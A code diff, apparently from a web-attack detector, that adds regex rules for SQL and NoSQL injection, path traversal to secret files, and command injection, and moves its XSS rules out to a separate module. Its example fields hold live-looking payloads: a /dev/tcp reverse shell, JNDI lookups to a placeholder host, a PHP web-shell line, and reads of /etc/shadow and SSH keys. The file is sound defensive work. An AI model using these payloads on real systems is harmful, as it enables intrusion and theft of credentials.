@@ -9,9 +9,11 @@ from __future__ import annotations
 
 from bastion.core.rules import Rule
 from bastion.core.types import Severity
+from bastion.detectors.webattack_xss import XSS, XSS_RULES
+
+__all__ = ["CMDI", "FAMILY_MESSAGES", "RULES", "SQLI", "SSRF", "TRAVERSAL", "XSS"]
 
 SQLI = "webattack.sqli"
-XSS = "webattack.xss"
 TRAVERSAL = "webattack.path_traversal"
 CMDI = "webattack.cmdi"
 SSRF = "webattack.ssrf"
@@ -50,18 +52,22 @@ RULES: tuple[Rule, ...] = (
     Rule(
         id="sqli.union_select",
         code=SQLI,
-        pattern=r"(?i)\bunion\b[\s/*+()#\-!]*(?:all\b|distinct\b)?[\s/*+()#\-!]*\(*\s*select\b",
+        pattern=r"(?i)(?:\b|\d[df]?)union\b[\s/*+()#\-!]*(?:all\b|distinct\b)?[\s/*+()#\-!]*\(*\s*select\b",
         severity=_S,
         score=0.9,
         message="UNION SELECT",
-        examples=("1 union select 1,2,3", "x')/**/UNION/**/ALL/**/SELECT null--"),
+        examples=(
+            "1 union select 1,2,3",
+            "x')/**/UNION/**/ALL/**/SELECT null--",
+            "1DUNION SELECT 2",
+        ),
         counterexamples=("the union selected a new leader", "European Union"),
     ),
     Rule(
         id="sqli.tautology",
         code=SQLI,
         pattern=(
-            r"(?i)['\"`)]\s*\)*\s*(?:or|and|xor|\|\||&&)\s*\(*\s*['\"]?[\w@]*['\"]?\s*(?:=|<>|!=|<|>"
+            r"(?i)['\"`)]\s*\)*\s*(?:or|and|xor|\|\||&&)\s*\(*\s*(?:['\"][\w@]*['\"]|[\w@]+)\s*(?:=|<>|!=|<|>"
             r"|\blike\b|\bis\b|\bin\b|\bregexp\b|\brlike\b|between\b)"
             r"|(?i)\b(?:or|and|xor|having|where)\s+\(*\s*(?:\d+|'[^']*'|\"[^\"]*\"|true|false|null"
             r"|@@?\w+)\s*(?:=|<>|!=|<=>|>=|<=|<|>|\blike\b)\s*(?:\d+|'|\"|true|false|null|@@?\w+|\()"
@@ -70,7 +76,7 @@ RULES: tuple[Rule, ...] = (
         score=0.8,
         message="boolean tautology after a quote",
         examples=("a' or 1='1", "1 OR 1=1", "' and 'x'='x", "admin' or '1'='1'--"),
-        counterexamples=("1060 OR 70S", "rock and roll"),
+        counterexamples=("1060 OR 70S", "rock and roll", 'MEASURES 18" AND IS MADE OF BRASS'),
     ),
     Rule(
         id="sqli.quote_keyword",
@@ -167,6 +173,71 @@ RULES: tuple[Rule, ...] = (
         counterexamples=("log into outlook", "load the data file"),
     ),
     Rule(
+        id="sqli.time_delay",
+        code=SQLI,
+        # Blind injection stalls the database to read one bit per request; a method call
+        # (`time.sleep(5)`, `Thread.sleep(100)`) is program code, not SQL.
+        pattern=(
+            r"(?i)(?:^|[^\w.$>:-])(?:sleep|pg_sleep|benchmark)\s*\(\s*(?:[-+(]*\s*\d|$|\)\s*$"
+            r"|[@'\"]|(?:select|now|rand|md5|sha1)\b)|(?i)\bwaitfor\s+(?:delay|time)\s*(?:['\"]|\d)"
+            r"|(?i)\bdbms_(?:pipe\.receive_message|lock\.sleep|session\.sleep)\b"
+            r"|(?i)\brandomblob\s*\(\s*\d{6,}|(?i)\bpg_sleep_for\s*\("
+        ),
+        severity=_S,
+        score=0.75,
+        message="SQL time delay (blind injection)",
+        examples=(
+            "sleep(5)#",
+            "SLEEP   (",
+            "1 or pg_sleep(10)--",
+            "benchmark(5000000,md5(1))",
+            "; waitfor delay '0:0:5'--",
+            "dbms_pipe.receive_message(('a'),10)",
+        ),
+        counterexamples=(
+            "time.sleep(5)",
+            "Thread.sleep(100)",
+            "$this->sleep(2)",
+            "sleep mode (5 min)",
+            "I need sleep (lots of it)",
+        ),
+    ),
+    Rule(
+        id="sqli.conditional",
+        code=SQLI,
+        # Boolean-blind injection asks its question as a condition on literals.
+        pattern=(
+            r"(?i)\bcase\s+when\s+\(*\s*(?:\d+|'[^']*'|@+\w+|\w+\s*\()\s*(?:=|<>|!=|<|>|like\b|is\b)"
+            r"|(?i)\b(?:if|iif)\s*\(\s*\(*\s*(?:\d+|'[^']*'|@+\w+)\s*(?:=|<>|!=|<|>)"
+        ),
+        severity=_S,
+        score=0.6,
+        message="SQL condition on literals (boolean-blind injection)",
+        examples=("(CASE WHEN 4518=5617 THEN 1 ELSE NULL END)", "if(1234=", "IF(1=1,SLEEP(5),0)"),
+        counterexamples=("in case when 5 people come", "if (x == 1) { y(); }", "if(count > 3)"),
+    ),
+    Rule(
+        id="sqli.nosql_operator",
+        code=SQLI,
+        # MongoDB query operators smuggled in through a form field (`user[$ne]=x`) or a JSON body
+        # (`{"$where": ...}`): the value turns from data into a query.
+        pattern=(
+            r"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|not|nor|or|and|elemMatch"
+            r"|expr|text|type|size|all|mod|jsonSchema)\s*\]|(?i)[\"']\$(?:ne|gt|gte|lt|lte|nin"
+            r"|regex|where|exists|not|nor|or|elemMatch|expr|text|function|accumulator)[\"']\s*:"
+        ),
+        severity=_S,
+        score=0.75,
+        message="NoSQL query operator in a value",
+        examples=(
+            "username[$ne]=toto&password[$ne]=toto",
+            "login[$regex]=a.*&pass[$ne]=1",
+            '{"username": {"$ne": null}, "password": {"$ne": null}}',
+            '{"$where": "sleep(100)"}',
+        ),
+        counterexamples=('{"price": "$10"}', "cost[$] = 5", "pay $ne 5"),
+    ),
+    Rule(
         id="sqli.comment",
         code=SQLI,
         pattern=r"(?i)/\*!?\d*|\*/|['\"`)\d]\s*(?:--|#|;\s*--|;\s*#|%00)|--\s*$|\bor\b\s*--",
@@ -175,6 +246,21 @@ RULES: tuple[Rule, ...] = (
         message="SQL comment",
         examples=("1/**/or/**/1", "admin'--", "5)#", "/*!50000select*/"),
         counterexamples=("email me -- thanks", "item #4"),
+    ),
+    Rule(
+        id="sqli.number_then_comment",
+        code=SQLI,
+        # A whole value that is a number or variable (or arithmetic on them) and then a bare
+        # comment: it ends the query right after itself.
+        pattern=(
+            r"^\s*\(*\s*(?:[-+]?\d+(?:\.\d+)?|@@?\w+)(?:\s*[-+*/%]\s*(?:[-+]?\d+(?:\.\d+)?|@@?\w+))*"
+            r"\s*\)*\s*(?:--[\s+-]*|#|/\*)\s*$"
+        ),
+        severity=_S,
+        score=0.4,
+        message="a number and a comment that cuts the query",
+        examples=("1  --", "1 * 1 --", "@version --", "-1#", "1 * 1  /*"),
+        counterexamples=("10/10 -- would buy again", "item 5 #", "2019--2020"),
     ),
     Rule(
         id="sqli.statement",
@@ -219,147 +305,8 @@ RULES: tuple[Rule, ...] = (
         examples=("1 || 2", "1 xor 1", "x' + 'y", "1) or (1", "'="),
         counterexamples=("rock and roll", "apples, oranges"),
     ),
-    # --- XSS -------------------------------------------------------------------------------
-    Rule(
-        id="xss.script_tag",
-        code=XSS,
-        pattern=r"(?i)<\s*/?\s*(?:[a-z]+:)?script\b|<\s*/\s*script\s*>",
-        severity=_S,
-        score=0.9,
-        message="script element",
-        examples=("<script>alert(1)</script>", "<x:script src=//a>"),
-        counterexamples=("the script of the movie", "a javascript tutorial"),
-    ),
-    Rule(
-        id="xss.event_handler",
-        code=XSS,
-        pattern=(
-            r"(?i)<[a-z!?/][^>]*?[\s\"'/;`]on[a-z]{3,30}\s*=|(?i)[\s\"'/;`]on(?:error|load|click"
-            r"|mouse\w+|focus|blur|key\w+|submit|change|input|toggle|animation\w*|transition\w*"
-            r"|pointer\w*|begin|end|start|scroll|resize|unload|beforeunload|message|hashchange"
-            r"|pageshow|popstate|wheel|drag\w*|drop|copy|cut|paste|show|search|select|invalid"
-            r"|reset|play\w*|pause|ended|auxclick|contextmenu|dblclick|readystatechange"
-            r"|afterprint|beforeprint|loadstart|loadend|progress|abort|seeked|seeking|waiting)"
-            r"\s*="
-        ),
-        severity=_S,
-        score=0.8,
-        message="HTML event handler attribute",
-        examples=('<img src=x onerror="alert(1)">', '" onmouseover="alert(1)', "<body onload=x()>"),
-        counterexamples=("turn the lights on=off", "the error is on line 3"),
-    ),
-    Rule(
-        id="xss.javascript_url",
-        code=XSS,
-        pattern=(
-            r"(?i)\b(?:java|vb|live|ecma)\s*script\s*:|(?i)\bdata\s*:\s*(?:text/html|image/svg"
-            r"|application/(?:x-)?javascript|text/javascript)|(?i)\bdata\s*:\s*,|(?i)\bsrcdoc\s*="
-            r"|(?i)\bexpression\s*\(|(?i)-moz-binding|(?i)\bbehavior\s*:|(?i)@import\b"
-        ),
-        severity=_S,
-        score=0.75,
-        message="script URL or CSS expression",
-        examples=('<a href="javascript:alert(1)">', "data:text/html;base64,PHNjcmlwdD4="),
-        counterexamples=("I love JavaScript programming", "data: see attached"),
-    ),
-    Rule(
-        id="xss.dangerous_tag",
-        code=XSS,
-        pattern=(
-            r"(?i)<\s*/?\s*(?:iframe|frame|frameset|object|embed|applet|svg|math|img|image|body"
-            r"|video|audio|source|track|details|marquee|isindex|form|input|button|base|link|meta"
-            r"|style|xml|xss|animate|set|use|foreignobject|template|textarea|select|keygen|layer"
-            r"|ilayer|bgsound|a|x|plaintext|xmp|noscript|title|html|div|span|table|td|iframe2"
-            r"|object2|[a-z]+:[a-z]+)\b"
-        ),
-        severity=_S,
-        score=0.35,
-        message="active HTML element",
-        examples=("<iframe src=//evil>", "<svg/onload=x>", "<a href=x>"),
-        counterexamples=("a < b and c > d", "x<y"),
-    ),
-    Rule(
-        id="xss.js_sink",
-        code=XSS,
-        pattern=(
-            r"(?i)\b(?:alert|prompt|confirm|eval|settimeout|setinterval|function|fromcharcode|atob"
-            r"|import|fetch|execscript)\s*(?:\(|`)|(?i)\bdocument\s*\.\s*(?:cookie|domain|write"
-            r"|location|body|createelement)|(?i)\bwindow\s*\.\s*(?:location|open|name)"
-            r"|(?i)\blocation\s*\.\s*(?:href|hash|replace)|(?i)\binnerhtml\b|(?i)\bconstructor\s*\("
-            r"|(?i)\[\s*['\"]constructor['\"]\s*\]|(?i)\bstring\s*\.\s*fromcharcode"
-        ),
-        severity=_S,
-        score=0.45,
-        message="JavaScript sink",
-        examples=("alert(1)", "document.cookie", "prompt`1`"),
-        counterexamples=("please confirm my booking", "an alert went off"),
-    ),
-    Rule(
-        id="xss.markup_break",
-        code=XSS,
-        pattern=(
-            r"(?i)['\"]\s*>\s*<\s*[a-z!/]|(?i)<!--.*?-->\s*<|(?i)<!\[cdata\[|(?i)&#x?0*(?:60|3c)"
-            r"(?:;|\b)|(?i)\\u003c|(?i)\\x3c|(?i)<\s*[a-z]+[^>]*\bstyle\s*=[^>]*(?:expression|url)"
-            r"|(?i)<\s*[a-z]+\s+[^>]*(?:src|href|action|formaction|data|xlink:href|background"
-            r"|dynsrc|lowsrc)\s*=|(?i)<[a-z]+[\s/]+[a-z]+\s*=[^>]*>|(?i)<[a-z]+/"
-        ),
-        severity=_S,
-        score=0.4,
-        message="markup that breaks out of an attribute or element",
-        examples=('"><img src=x>', "&#x3c;script", '<img src="x">'),
-        counterexamples=('she said "hi" > all', "5 > 3"),
-    ),
-    Rule(
-        id="xss.active_element",
-        code=XSS,
-        pattern=(
-            r"(?i)<\s*(?:[a-z]*:)?(?:iframe|frameset|embed|applet|object|svg|math|vmlframe|handler"
-            r"|import\b|\?import|base\s|meta\s+(?:http-equiv|charset)|link\b[^>]*\bhref|xml\s"
-            r"|isindex|marquee|bgsound)|(?i)<[a-z](?:\s[a-z]){3,}\b"
-        ),
-        severity=_S,
-        score=0.7,
-        message="element that loads or runs active content",
-        examples=("<iframe src=x>", "<embed src=a.swf>", "<meta http-equiv=refresh", "<f o r m"),
-        counterexamples=("<table width=99%>", "<A HREF=/path>foo</A>", "x <a b> y"),
-    ),
-    Rule(
-        id="xss.dom_access",
-        code=XSS,
-        pattern=(
-            r"(?i)(?:^|[^/\w.-])(?:document|window|self|top|parent|globalthis|frames)\s*(?:/\*[^*]*\*/\s*)*"
-            r"(?:\[\s*(?:/\*[^*]*\*/\s*)*['\"`]|\.\s*(?:/\*[^*]*\*/\s*)*(?:cookie|domain|write"
-            r"|location|body|queryselector|createelement))|(?i)\{\{[^}]*(?:constructor|\$eval|\$on)"
-            r"|(?i)\burl\s*\(\s*['\"]?\s*(?:java|vb)script|(?i)\bnew\s+function\s*\("
-        ),
-        severity=_S,
-        score=0.75,
-        message="script reaching into the page (DOM, template sandbox escape, script URL in CSS)",
-        examples=(
-            'self["alert"](1)',
-            "document /*x*/ . cookie",
-            "{{constructor.constructor('alert(1)')()}}",
-            "x:url(javascript",
-        ),
-        counterexamples=("the document is ready", "/manual/document.cookie", "{{ name }}"),
-    ),
-    Rule(
-        id="xss.xml_external",
-        code=XSS,
-        pattern=(
-            r"(?i)!ENTITY\s+(?:%\s*)?[\w.:-]+\s+(?:SYSTEM|PUBLIC)\b|<\s*xi:include\b"
-            r"|(?i)<!ATTLIST\b[^>]*\bon[a-z]+\s+CDATA"
-        ),
-        severity=_S,
-        score=0.8,
-        message="XML external entity or XInclude (XXE)",
-        examples=(
-            '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]>',
-            "foo!ENTITY % bar SYSTEM",
-            '<xi:include href="http://x.example/"/>',
-        ),
-        counterexamples=("an entity system for games", "<!DOCTYPE html>"),
-    ),
+    # --- XSS: see webattack_xss -------------------------------------------------------------
+    *XSS_RULES,
     # --- path traversal ----------------------------------------------------------------------
     Rule(
         id="traversal.dot_dot",
@@ -378,15 +325,22 @@ RULES: tuple[Rule, ...] = (
         id="traversal.climb",
         code=TRAVERSAL,
         pattern=(
-            r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.?[\\/;](?:[\w.%~]|$)|\.\.(?:%00|\x00)"
+            r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.?[\\/;][\w.%~]|\.\.(?:%00|\x00)"
             r"|(?i)(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e|%uff0e|0x2e){2}"
             r"|(?i)\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%c1%1c|%e0%80%af|%u2215|%u2216|0x5c|0x2f)"
-            r"|(?i)0x5c0x2e|(?i)\\\.\.|\.\.;"
+            r"|(?i)0x5c0x2e|(?i)\\\.\.|\.\.;|(?:^|[\\/=])\.{4,}[\\/]"
         ),
         severity=_S,
         score=0.75,
         message="climbing out of the directory: repeated, leading or encoded parent steps",
-        examples=("../../etc/passwd", "..%252f..%252f", "%c0%ae%c0%ae/", "file=../x", "..;/"),
+        examples=(
+            "../../etc/passwd",
+            "..%252f..%252f",
+            "%c0%ae%c0%ae/",
+            "file=../x",
+            "..;/",
+            "....//WEB-INF/web.xml",
+        ),
         counterexamples=("see docs/../README for details", "wait... what?", '<a href="../">up</a>'),
     ),
     Rule(
@@ -405,6 +359,34 @@ RULES: tuple[Rule, ...] = (
         message="sensitive system file path",
         examples=("/etc/passwd", "C:\\windows\\system32", "cat /root/.aws/credentials"),
         counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
+    ),
+    Rule(
+        id="traversal.secret_file",
+        code=TRAVERSAL,
+        # Files that hold credentials or a process's secrets; an argument naming one is the goal
+        # of a traversal whether or not it climbs to get there.
+        pattern=(
+            r"(?i)/etc/(?:passwd|shadow|gshadow|sudoers|master\.passwd|security/passwd)\b"
+            r"|(?i)/proc/(?:self|\d+)/(?:environ|cmdline|maps|mem|fd/)|(?i)\b(?:boot|win|system)\.ini\b"
+            r"|(?i)system32[\\/]+config[\\/]+(?:sam|system|security)\b|(?i)/\.aws/credentials\b"
+            r"|(?i)\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w]|\.[^p])|(?i)/\.ssh/authorized_keys\b"
+            r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/\.(?:bash|zsh|mysql)_history\b"
+            r"|(?i)/\.git/config\b|(?i)/\.env(?:$|[^\w.])|(?i)\bweb-inf[\\/]+web\.xml\b"
+            r"|(?i)system32[\\/]+drivers[\\/]+etc[\\/]+hosts\b"
+            r"|(?i)/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log\b"
+        ),
+        severity=_S,
+        score=0.75,
+        message="credential or secret-holding system file",
+        examples=(
+            "/etc/passwd",
+            "/etc/shadow\x00",
+            "/proc/self/environ",
+            "C:\\boot.ini",
+            "~/.ssh/id_rsa",
+            "/var/www/.env",
+        ),
+        counterexamples=("how do I reset my passwd", "~/.ssh/id_rsa.pub", "/srv/app/.envrc"),
     ),
     Rule(
         id="traversal.scheme",
@@ -441,6 +423,8 @@ RULES: tuple[Rule, ...] = (
             r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
             r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
             r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
+            r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
+            r"|(?i)\{\s*jndi\s*:|(?i)\$\{\s*(?:lower|upper|env|sys|date|::-)[\s:]"
         ),
         severity=_S,
         score=0.7,
@@ -451,15 +435,18 @@ RULES: tuple[Rule, ...] = (
             "bash -i >& /dev/tcp/1.2.3.4/8080",
             ":(){ :|:& };:",
             "() { :; }; echo x",
+            "diff <(cat a) b",
+            "${jndi:ldap://x.example/a}",
+            "${${lower:j}ndi:rmi://x.example/a}",
         ),
-        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }"),
+        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }", "x <(y)"),
     ),
     Rule(
         id="cmdi.windows_batch",
         code=CMDI,
         pattern=(
             r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
-            r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+)*"
+            r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
             r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
             r"\b|%comspec%|start\s+/b\b)"
         ),
@@ -472,8 +459,32 @@ RULES: tuple[Rule, ...] = (
             "IF 2 GEQ 15 x",
             'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
             "& FOR %/ IN (a,b,c) DO cmd",
+            'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"',
         ),
         counterexamples=("if you exist, reply", "for the win"),
+    ),
+    Rule(
+        id="cmdi.server_side",
+        code=CMDI,
+        # Commands run by the server itself: server-side includes, PHP's process functions fed
+        # from the request, and PHP's `${...}` interpolation calling a function.
+        pattern=(
+            r"(?i)<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\b"
+            r"|(?i)\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\(\s*(?:\$_"
+            r"(?:get|post|request|cookie|server)\b|['\"]?(?:id|ls|whoami|cat|uname|dir|pwd|nc"
+            r"|wget|curl|bash|sh|ping|nslookup)\b)|(?i)\$\{\s*@?(?:system|print|eval|exec"
+            r"|phpinfo|passthru|shell_exec)\s*\("
+        ),
+        severity=_S,
+        score=0.8,
+        message="command run by the server (SSI directive, PHP process call)",
+        examples=(
+            '<!--#exec cmd="ls"-->',
+            "<?php system($_GET['cmd']); ?>",
+            "{${system(id)}}",
+            "${@print(chr(122))}",
+        ),
+        counterexamples=("<!-- #main content -->", "the system (id card) office", "${name}"),
     ),
     Rule(
         id="cmdi.leading_command",
